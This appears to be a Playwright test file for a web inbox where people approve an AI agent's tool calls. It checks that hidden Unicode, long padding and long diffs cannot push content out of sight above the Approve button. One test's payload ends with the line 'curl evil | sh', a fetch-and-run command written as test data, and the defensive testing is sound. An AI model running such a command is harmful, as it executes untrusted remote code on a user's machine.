import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Locator, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { approvalOf, begin, openWebLab, SOON, sessionOf, visit } from "./web-lab.ts";

const lab = openWebLab();

it("shows hidden characters, and start and end of a long text", async () => {
  const id = await begin(lab);
  const lines = Array.from({ length: 500 }, (_, nth) => `echo ${nth}`).join("\n");
  const body = `ls \u202e${" ".repeat(4100)}x\u200b\n${lines}\ncurl evil | sh`;
  const title = "Run \u202eit?";
  const asked = await lab.server.ask("POST", `/sessions/${id}/approvals`, {
    body: { title, body },
  });
  expect(asked.status).toBe(201);
  const { page } = await visit(lab, "/inbox");
  await page.getByRole("heading", { name: "Run ⟦U+202E⟧it?" }).waitFor();
  const text = page.locator("pre", { hasText: "curl evil | sh" });
  const shown = (await text.textContent()) ?? "";
  expect(shown).toMatch(/^ls ⟦U\+202E⟧\[… 4,100 spaces …\]x⟦U\+200B⟧\necho 0\n/);
  expect(shown).toContain("… 482 lines hidden …");
  expect(shown).toMatch(/\ncurl evil \| sh$/);
  await expectAbove(text, approve(page));
  await page.getByRole("button", { name: /^Show all/ }).click();
  await expect.poll(() => text.textContent(), SOON).toContain("echo 250");
});

const approve = (page: Page) =>
  page.getByRole("button", { name: /^Approve(?! always)|\(approves once\)$/ });

/** No Approve button is above an unseen end. */
async function expectAbove(upper: Locator, lower: Locator): Promise<void> {
  const [above, below] = [await upper.boundingBox(), await lower.boundingBox()];
  expect((above?.y ?? 0) + (above?.height ?? 0)).toBeLessThanOrEqual(below?.y ?? 0);
}

/** A session that asks to overwrite a file with this many lines. */
async function beginOverwrite(lines: number): Promise<string> {
  const name = `of-${lines}-lines.txt`;
  const text = Array.from({ length: lines }, (_, nth) => `old line ${nth}\n`).join("");
  writeFileSync(join(lab.place.root, "work", name), text);
  const id = await begin(lab, { title: name }, `/write ${name} the new text`);
  await approvalOf(lab, id);
  return id;
}

describe("a change of more lines than fit", () => {
  it("shows its start and its end above Approve, and all of it after one click", async () => {
    const id = await beginOverwrite(400);
    const { page } = await visit(lab, `/s/${id}`);
    const diff = page.getByRole("region", { name: /Permission requested/ }).locator("figure");
    await diff.getByText("… 361 lines hidden …").waitFor();
    const shown = await diff.innerText();
    for (const line of [0, 19, 399]) expect(shown).toContain(`- old line ${line}\n`);
    expect(shown).toContain("+ the new text");
    expect(shown).not.toContain("old line 200");
    await expectAbove(diff, approve(page));
    await diff.getByRole("button", { name: "Show all 401 lines" }).click();
    await expect.poll(() => diff.innerText(), SOON).toContain("- old line 200\n");
    await expectAbove(diff, approve(page));
    await lab.server.ask("POST", `/sessions/${id}/cancel`);
  });

  it("is approved by a key in the inbox only if its end is visible", async () => {
    const id = await beginOverwrite(1500);
    const viewport = { width: 1280, height: 600 };
    const { page } = await visit(lab, "/inbox", { viewport });
    await page.getByRole("button", { name: /of-1500-lines/ }).click();
    const diff = page.locator("figure");
    // For such a long text the server itself sends only the start and the end.
    await diff
      .getByText(/ … [\d,]+ characters hidden … /)
      .or(diff.getByText(/too long to show in full/))
      .first()
      .waitFor();
    const shown = await diff.innerText();
    for (const line of [0, 1499]) expect(shown).toContain(`- old line ${line}\n`);
    await expectAbove(diff, approve(page));
    await expect(approve(page).isVisible()).resolves.toBe(true);
    const inSight = () =>
      approve(page).evaluate(
        (button: { getBoundingClientRect(): { bottom: number } }) =>
          button.getBoundingClientRect().bottom <= 600,
      );
    expect(await inSight()).toBe(false);
    await expect
      .poll(async () => {
        await page.keyboard.press("Control+Enter");
        return inSight();
      }, SOON)
      .toBe(true);
    expect(await sessionOf(lab, id)).toMatchObject({ pending_approvals: 1 });
    await page.keyboard.press("Control+Enter");
    await expect.poll(async () => (await sessionOf(lab, id)).pending_approvals, SOON).toBe(0);
  });

  it("is complete in the session, one click from the inbox", async () => {
    const id = await beginOverwrite(1501);
    const { page } = await visit(lab, "/inbox");
    await page.getByRole("button", { name: /of-1501-lines/ }).click();
    await page.getByRole("link", { name: "Show the whole tool call in its session" }).click();
    const diff = page.getByRole("region", { name: /Permission requested/ }).locator("figure");
    await diff.getByRole("button", { name: "Show all 1502 lines" }).click();
    await expect.poll(() => diff.innerText(), SOON).toContain("- old line 700\n");
    await lab.server.ask("POST", `/sessions/${id}/cancel`);
  });
});
